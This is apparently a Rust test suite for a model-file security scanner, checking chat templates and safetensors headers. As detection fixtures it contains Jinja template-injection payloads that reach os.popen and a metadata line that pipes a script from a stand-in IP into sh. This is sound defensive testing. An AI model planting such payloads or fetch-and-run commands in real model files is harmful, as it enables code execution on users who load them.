//! Document and weight formats other than the pickle family: chat templates
//! (JSON configs, YAML, standalone) and safetensors headers. Templates of
//! real model families must stay clean; each way a safetensors header can
//! lie must be flagged; metadata carrying code is flagged.

use probity::finding::{FileReport, Severity};
use probity::scan::Ctx;

fn scan_bytes(name: &str, bytes: &[u8]) -> FileReport {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join(name);
    std::fs::write(&p, bytes).unwrap();
    probity::scan::scan_file(&p, name.into(), &Ctx::default())
}

fn rules(r: &FileReport) -> Vec<&str> {
    r.findings.iter().map(|f| f.rule.as_str()).collect()
}

/// Chat templates in the shape of real model families' (written for these
/// tests): they must all stay clean.
const FAMILY_TEMPLATES: &[(&str, &str)] = &[
    (
        "llama2",
        "{% if messages[0]['role'] == 'system' %}{% set loop_messages = messages[1:] %}{% set system_message = messages[0]['content'] %}{% else %}{% set loop_messages = messages %}{% set system_message = false %}{% endif %}{% for message in loop_messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}{% if loop.index0 == 0 and system_message != false %}{% set content = '<<SYS>>\\n' + system_message + '\\n<</SYS>>\\n\\n' + message['content'] %}{% else %}{% set content = message['content'] %}{% endif %}{% if message['role'] == 'user' %}{{ bos_token + '[INST] ' + content.strip() + ' [/INST]' }}{% elif message['role'] == 'assistant' %}{{ ' '  + content.strip() + ' ' + eos_token }}{% endif %}{% endfor %}",
    ),
    (
        "llama3",
        "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}",
    ),
    (
        "mistral",
        "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}{% else %}{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}{% endfor %}",
    ),
    (
        "qwen2-tools",
        "{%- if tools %}{{- '<|im_start|>system\\n' }}{%- if messages[0]['role'] == 'system' %}{{- messages[0]['content'] }}{%- else %}{{- 'You are a helpful assistant.' }}{%- endif %}{{- \"\\n\\n# Tools\\n\\n<tools>\" }}{%- for tool in tools %}{{- \"\\n\" }}{{- tool | tojson }}{%- endfor %}{{- \"\\n</tools><|im_end|>\\n\" }}{%- endif %}{%- for message in messages %}{%- if message.role == \"user\" or (message.role == \"system\" and not loop.first) %}{{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>' + '\\n' }}{%- elif message.role == \"assistant\" %}{{- '<|im_start|>' + message.role }}{%- if message.content %}{{- '\\n' + message.content }}{%- endif %}{%- for tool_call in message.tool_calls %}{%- if tool_call.function is defined %}{%- set tool_call = tool_call.function %}{%- endif %}{{- '\\n<tool_call>\\n{\"name\": \"' }}{{- tool_call.name }}{{- '\", \"arguments\": ' }}{{- tool_call.arguments | tojson }}{{- '}\\n</tool_call>' }}{%- endfor %}{{- '<|im_end|>\\n' }}{%- endif %}{%- endfor %}{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}",
    ),
    (
        "gemma",
        "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role not supported') }}{% endif %}{% for message in messages %}{% if (message['role'] == 'assistant') %}{% set role = 'model' %}{% else %}{% set role = message['role'] %}{% endif %}{{ '<start_of_turn>' + role + '\\n' + message['content'] | trim + '<end_of_turn>\\n' }}{% endfor %}{% if add_generation_prompt %}{{'<start_of_turn>model\\n'}}{% endif %}",
    ),
    (
        "phi3",
        "{% for message in messages %}{% if message['role'] == 'system' %}{{'<|system|>\\n' + message['content'] + '<|end|>\\n'}}{% elif message['role'] == 'user' %}{{'<|user|>\\n' + message['content'] + '<|end|>\\n'}}{% elif message['role'] == 'assistant' %}{{'<|assistant|>\\n' + message['content'] + '<|end|>\\n'}}{% endif %}{% endfor %}{% if add_generation_prompt %}{{ '<|assistant|>\\n' }}{% else %}{{ eos_token }}{% endif %}",
    ),
    (
        "chatml-namespace",
        "{% set ns = namespace(system='') %}{% for m in messages %}{% if m.role == 'system' %}{% set ns.system = m.content %}{% endif %}{% endfor %}{% if ns.system %}<|im_start|>system\n{{ ns.system }}<|im_end|>\n{% endif %}{% for m in messages if m.role != 'system' %}<|im_start|>{{ m.role }}\n{{ m.content }}<|im_end|>\n{% endfor %}{% if add_generation_prompt %}<|im_start|>assistant\n{% endif %}",
    ),
];

#[test]
fn chat_templates_of_model_families_are_clean() {
    for (name, t) in FAMILY_TEMPLATES {
        // as tokenizer_config.json, as a named-template list, as a file
        let cfg = serde_json::json!({
            "bos_token": "<s>",
            "eos_token": "</s>",
            "chat_template": t,
        });
        let named = serde_json::json!({
            "chat_template": [{"name": "default", "template": t}, {"name": "tool_use", "template": t}],
        });
        for (file, bytes) in [
            ("tokenizer_config.json", cfg.to_string().into_bytes()),
            ("tokenizer_config.json", named.to_string().into_bytes()),
            ("chat_template.jinja", t.as_bytes().to_vec()),
        ] {
            let r = scan_bytes(file, &bytes);
            assert!(r.error.is_none(), "{name}: {:?}", r.error);
            assert!(
                r.max_severity() < Some(Severity::Warning),
                "{name} ({file}): {:?}",
                r.findings
            );
            assert_ne!(r.format, "unknown", "{name} ({file})");
        }
    }
}

#[test]
fn template_payloads_are_flagged_wherever_they_sit() {
    let payload = "{{ joiner.__init__.__globals__['o' ~ 's'].popen('id').read() }}";
    let docs = [
        (
            "tokenizer_config.json",
            serde_json::json!({"chat_template": payload}).to_string(),
        ),
        (
            "tokenizer_config.json",
            serde_json::json!({"chat_template": [{"name": "rag", "template": payload}]})
                .to_string(),
        ),
        (
            "config.json",
            serde_json::json!({"task": {"prompt": payload}}).to_string(),
        ),
        ("template.jinja", payload.to_string()),
        (
            "config.yaml",
            format!("model: x\nchat_template: \"{payload}\"\n"),
        ),
    ];
    for (file, text) in docs {
        let r = scan_bytes(file, text.as_bytes());
        assert_eq!(rules(&r), ["CFG001"], "{file}: {text}");
        let e = r.findings[0].evidence.as_deref().unwrap_or("");
        assert!(e.contains("__globals__") && e.contains("popen"), "{e}");
    }
    // traversal without a way to act is a warning
    let r = scan_bytes(
        "tokenizer_config.json",
        serde_json::json!({"chat_template": "{{ ''.__class__.__mro__ }}"})
            .to_string()
            .as_bytes(),
    );
    assert_eq!(rules(&r), ["CFG002"]);
}

fn st(header: &serde_json::Value, data: &[u8]) -> Vec<u8> {
    let h = header.to_string();
    let mut out = (h.len() as u64).to_le_bytes().to_vec();
    out.extend_from_slice(h.as_bytes());
    out.extend_from_slice(data);
    out
}

#[test]
fn safetensors_headers_that_lie_are_flagged() {
    use serde_json::json;
    let ok = json!({
        "__metadata__": {"format": "pt", "source": "fine-tune of base"},
        "a": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
        "b": {"dtype": "BF16", "shape": [4], "data_offsets": [16, 24]},
    });
    let r = scan_bytes("m.safetensors", &st(&ok, &[0u8; 24]));
    assert_eq!(r.format, "safetensors");
    assert!(r.findings.is_empty(), "{:?}", r.findings);
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        ("trailing bytes", st(&ok, &[0u8; 40]), "not described"),
        ("short data", st(&ok, &[0u8; 20]), "past the"),
        (
            "overlap",
            st(
                &json!({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                        "b": {"dtype": "F32", "shape": [2], "data_offsets": [8, 16]}}),
                &[0u8; 16],
            ),
            "overlaps",
        ),
        (
            "gap",
            st(
                &json!({"a": {"dtype": "F32", "shape": [2], "data_offsets": [8, 16]}}),
                &[0u8; 16],
            ),
            "unexplained bytes",
        ),
        (
            "size vs shape",
            st(
                &json!({"a": {"dtype": "F16", "shape": [3, 3], "data_offsets": [0, 16]}}),
                &[0u8; 16],
            ),
            "needs 18 bytes",
        ),
        (
            "unknown dtype",
            st(
                &json!({"a": {"dtype": "PICKLE", "shape": [1], "data_offsets": [0, 1]}}),
                &[0u8; 1],
            ),
            "unknown dtype",
        ),
        (
            "overflowing shape",
            st(
                &json!({"a": {"dtype": "F32", "shape": [u64::MAX, 4], "data_offsets": [0, 4]}}),
                &[0u8; 4],
            ),
            "overflows",
        ),
        (
            "missing offsets",
            st(&json!({"a": {"dtype": "F32", "shape": [1]}}), &[0u8; 4]),
            "lacks",
        ),
        (
            "header past the end",
            {
                let mut b = 500u64.to_le_bytes().to_vec();
                b.extend_from_slice(b"{\"a\": 1}");
                b
            },
            "file ends",
        ),
        (
            "not JSON",
            {
                let mut b = 12u64.to_le_bytes().to_vec();
                b.extend_from_slice(b"{\"a\": [1, 2");
                b.push(b' ');
                b
            },
            "not valid JSON",
        ),
    ];
    for (what, bytes, needle) in cases {
        let r = scan_bytes("m.safetensors", &bytes);
        assert!(r.error.is_none(), "{what}: {:?}", r.error);
        assert_eq!(rules(&r), ["SFT001"], "{what}: {:?}", r.findings);
        assert!(
            r.findings[0].message.contains(needle),
            "{what}: {}",
            r.findings[0].message
        );
    }
}

#[test]
fn safetensors_metadata_with_code_urls_or_templates() {
    use serde_json::json;
    let h = json!({
        "__metadata__": {
            "setup": "import os; os.system('curl http://203.0.113.9/x.sh | sh')",
            "card": "see https://huggingface.co/org/model",
            "prompt": "{{ cycler.__init__.__globals__.os.popen('id') }}",
        },
        "a": {"dtype": "U8", "shape": [3], "data_offsets": [0, 3]},
    });
    let r = scan_bytes("m.safetensors", &st(&h, b"abc"));
    let mut got = rules(&r);
    got.sort();
    // the template string also names os.popen: flagged as code too
    assert_eq!(
        got,
        ["CFG001", "NET001", "SFT002", "SFT002"],
        "{:?}",
        r.findings
    );
    let net = r.findings.iter().find(|f| f.rule == "NET001").unwrap();
    let ev = net.evidence.as_deref().unwrap();
    assert!(
        ev.contains("http://203.0.113.9/x.sh") && ev.contains("huggingface.co"),
        "{ev}"
    );
}

#[test]
fn real_model_folders_scan_clean() {
    let root = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    for m in ["base", "backdoor-rare-start", "clean-instruct"] {
        for f in [
            "model.safetensors",
            "tokenizer_config.json",
            "config.json",
            "tokenizer.json",
        ] {
            let p = root.join("fixtures/zoo").join(m).join(f);
            let r = probity::scan::scan_file(&p, f.into(), &Ctx::default());
            assert!(r.error.is_none(), "{m}/{f}: {:?}", r.error);
            assert!(r.findings.is_empty(), "{m}/{f}: {:?}", r.findings);
            assert_ne!(r.format, "unknown", "{m}/{f}");
        }
    }
}
